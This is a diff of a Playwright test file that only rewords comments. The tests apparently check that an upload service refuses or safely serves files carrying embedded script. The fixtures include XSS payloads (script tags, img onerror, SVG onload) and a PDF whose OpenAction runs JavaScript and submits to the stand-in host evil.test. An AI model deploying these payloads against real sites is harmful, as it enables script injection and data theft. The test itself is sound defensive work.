@@ -7,7 +7,7 @@ const SCRIPT = '<script>window.ran = true; alert(1)</script><img src=x onerror="
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran = true; alert(3)"><script>alert(4)</script></svg>`;
 const PAGE = `<!doctype html><title>a page</title><b data-hostile>bold</b>${SCRIPT}`;
 const XML = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(5)</script></html>`;
-/** A document that would say something when it is opened by a reader that runs its script. */
+/** A document that opens a message if its reader runs its script. */
 const PDF = `%PDF-1.7
 1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(6); this.submitForm('https://evil.test/');)>>>>endobj
 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj
@@ -15,7 +15,7 @@ trailer<</Root 1 0 R>>
 `;
 const PNG = '\u0089PNG\r\n\u001a\n';
 
-/** As they are called, what they hold, and what the browser that sends them says of what they are. */
+/** Names, contents, and the types that the sending browser claims. */
 const REFUSED: readonly (readonly [name: string, content: string, type: string])[] = [
   ['page.html', PAGE, 'text/html'],
   ['page.HTM', PAGE, 'application/octet-stream'],
@@ -47,7 +47,7 @@ const TAKEN: readonly (readonly [name: string, content: string, type: string])[]
   ['nothing said', PAGE, ''],
 ];
 
-/** Sends a file as a browser would; gives its signed address, or null where it was refused. */
+/** Sends a file as browsers do; returns its signed address, or null if it was refused. */
 async function send(url: string, calls: Calls, gid: number, [name, content, type]: (typeof TAKEN)[number]) {
   const { token } = await calls.person('submitter');
   const form = new FormData();
@@ -60,7 +60,7 @@ async function send(url: string, calls: Calls, gid: number, [name, content, type
   return new URL(data[0]?.url ?? '', url).pathname;
 }
 
-/** Scripts that ran say so by a dialog of the browser's own. */
+/** Scripts that run reveal themselves by a browser dialog. */
 function listen(page: Page): string[] {
   const ran: string[] = [];
   page.on('dialog', (dialog) => {
@@ -90,7 +90,7 @@ test('files that hold pages and scripts are refused, or handed over without bein
     expect(page.url(), file[0]).toBe('about:blank');
   }
 
-  // Nor does a page of ours run one that it is led to as its own script.
+  // Nor does a page of the application run such a file as its own script.
   await page.goto('/imprint');
   await untilQuiet(page);
   for (const address of addresses) {
@@ -141,7 +141,7 @@ test('an answer of the API that is opened by its address is text, whatever peopl
     await page.goto(path);
     expect([await page.evaluate('document.contentType'), path]).toEqual(['application/json', path]);
     expect(await page.locator('[data-hostile], script, img').count(), path).toBe(0);
-    // As it stands in JSON, and as text: nothing of it has become an element.
+    // The page shows the text as JSON writes it: none of it has become an element.
     const text = await page.locator('body').innerText();
     expect([text.includes(JSON.stringify(held).slice(1, -1)), path]).toEqual([true, path]);
   }
